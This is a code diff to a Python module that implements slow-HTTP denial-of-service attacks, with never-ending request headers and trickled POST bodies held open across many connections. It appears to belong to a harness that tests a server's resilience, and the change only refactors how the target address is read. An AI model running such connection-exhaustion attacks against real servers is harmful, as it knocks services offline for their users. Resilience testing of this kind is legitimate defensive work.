@@ -15,7 +15,7 @@ LOG_BAR = 5_000_000
 
 async def _held(target: Target, request: bytes) -> AttackResult:
     """Open connections, send the beginning of a request on each, and one more byte now and then."""
-    host, port = target.server.address.removeprefix("http://").split(":")
+    host, port = target.address.removeprefix("http://").split(":")
     address, before = local(ATTACKER), target.server.log.stat().st_size
     writers: list[asyncio.StreamWriter] = []
 
@@ -42,12 +42,12 @@ async def _held(target: Target, request: bytes) -> AttackResult:
 
 async def headers(target: Target) -> AttackResult:
     """Headers that never end."""
-    return await _held(target, b"GET / HTTP/1.1\r\nHost: " + target.server.address[7:].encode() + b"\r\nX-A: ")
+    return await _held(target, b"GET / HTTP/1.1\r\nHost: " + target.address[7:].encode() + b"\r\nX-A: ")
 
 
 async def bodies(target: Target) -> AttackResult:
     """Bodies that never end."""
-    host = target.server.address[7:].encode()
+    host = target.address[7:].encode()
     head = b"POST " + API.encode() + b"/queue/join HTTP/1.1\r\nHost: " + host + b"\r\nOrigin: http://" + host
     return await _held(target, head + b"\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n{")
 
